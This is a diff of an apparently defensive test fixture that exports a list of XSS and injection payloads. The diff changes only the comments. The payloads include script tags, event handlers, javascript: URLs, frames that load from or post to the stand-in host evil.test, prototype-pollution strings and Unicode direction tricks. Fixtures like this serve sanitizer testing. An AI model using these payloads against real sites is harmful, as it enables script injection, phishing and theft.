@@ -1,9 +1,9 @@
 /**
- * What people write into fields who want a page to do something: each kind of the usual lists, in our own words. Run,
- * any of them would call `hacked()`, ask evil.test for something, open a dialog, or change what stands around it.
+ * What attackers type into fields: every kind from the usual lists, in our own words. If one ran, it would call `hacked()`,
+ * request something from evil.test, open a dialog, or change the page around it.
  */
 export const payloads = [
-  // A script as it stands, cut up, upside down, and after closing what it may stand in.
+  // A plain script, split, reversed, and after closing various contexts.
   '<script>hacked()</script>',
   '<ScRiPt src=//evil.test/a.js></sCrIpT>',
   '<script/x>hacked()</script/x>',
@@ -38,7 +38,7 @@ export const payloads = [
   '<button popovertarget=p>x</button><p popover id=p onbeforetoggle=hacked()>',
   '" onmouseover="hacked()" autofocus x="',
   '` onfocus=hacked() autofocus `',
-  // Frames, forms, and what takes the page elsewhere.
+  // Frames, forms, and what navigates the page elsewhere.
   '<iframe srcdoc="<script>parent.hacked()</script>"></iframe>',
   '<iframe src="javascript:parent.hacked()"></iframe>',
   '<object data="data:text/html,<script>hacked()</script>"></object>',
@@ -47,7 +47,7 @@ export const payloads = [
   '<meta http-equiv=refresh content="0;url=//evil.test/">',
   '<link rel=stylesheet href=//evil.test/a.css>',
   '<form action=//evil.test/><button>Log in again</button></form>',
-  // Addresses.
+  // URLs.
   'javascript:hacked()',
   'JaVa\tScRiPt:hacked()',
   'java&#115;cript:hacked()',
@@ -62,11 +62,11 @@ export const payloads = [
   '<!--><script>hacked()</script--> <!-- -- > -->',
   '<style>*{display:none}@import"//evil.test/a.css";</style>',
   'color:red;background:url(//evil.test/x);}</style>',
-  // Names that objects have already, and values that are no text.
+  // Names of object properties, and values of other types.
   '__proto__[polluted]=1&constructor[prototype][polluted]=1',
   '{"__proto__":{"polluted":1},"$ne":null}',
   'constructor toString hasOwnProperty undefined null NaN [object Object]',
-  // Characters that turn, hide or stack what stands around them.
+  // Characters that reverse, hide or stack the text around them.
   'safe\u202egpj.exe\u202c \u2066\u2067turned\u2069\u2069 \u200fright\u200e left',
   'in\u200bvis\u2060ible \ufeffjoined\u200d \u00adsoft \u{e0041}\u{e0042}tags',
   `Z${'\u0300\u0301\u0302\u0303'.repeat(6)}algo ﷽ 𒐫 \uffff end`,
